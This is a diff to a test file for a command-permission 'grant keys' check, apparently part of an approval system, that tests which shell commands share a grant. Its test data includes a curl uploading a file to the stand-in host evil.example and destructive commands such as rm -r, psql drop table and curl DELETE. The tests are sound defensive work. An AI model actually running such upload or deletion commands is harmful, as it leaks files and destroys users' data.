@@ -21,7 +21,8 @@ describe('grant keys', () => {
   it.each([
     ['git push origin main', 'git push -q origin HEAD:main'],
     ['git push origin main', 'cd src && git push --no-verify origin main | tail -1'],
-    ['curl -d a=1 https://api.example.com/x', "curl -sS https://api.example.com/y --data '{}'"],
+    ['curl -F f=@a.txt https://api.example.com/x', 'curl -sS https://api.example.com/y --form g=@a.txt'],
+    ['curl -X PUT -d a=1 https://api.example.com/x', "curl -sS -XPUT https://api.example.com/y --data '{}'"],
     ['echo a > ~/notes.txt', 'tee -a /home/dev/notes.txt < b'],
     ['npm publish', 'npm publish --access public'],
   ])('are the same for %s and %s', (a, b) => {
@@ -32,7 +33,10 @@ describe('grant keys', () => {
   it.each([
     ['git push origin main', 'git push origin release/1'],
     ['git push origin feature/x --force', 'git push origin :feature/x'],
-    ['curl -d a=1 https://api.example.com/', 'curl -d a=1 https://evil.example/'],
+    ['curl -F f=@a https://api.example.com/', 'curl -F f=@a https://evil.example/'],
+    ['curl -F f=@a https://api.example.com/', 'curl -F f=@b https://api.example.com/'],
+    ['curl -X PUT https://api.example.com/x', 'curl -X DELETE https://api.example.com/x'],
+    ['psql -c "drop table a"', 'psql -h db.example.com -c "drop table a"'],
     ['echo a > ~/notes.txt', 'echo a > ~/other.txt'],
     ['echo a > ~/notes', 'rm -r ~/notes'],
     ['sudo true', 'sudo -u postgres true'],
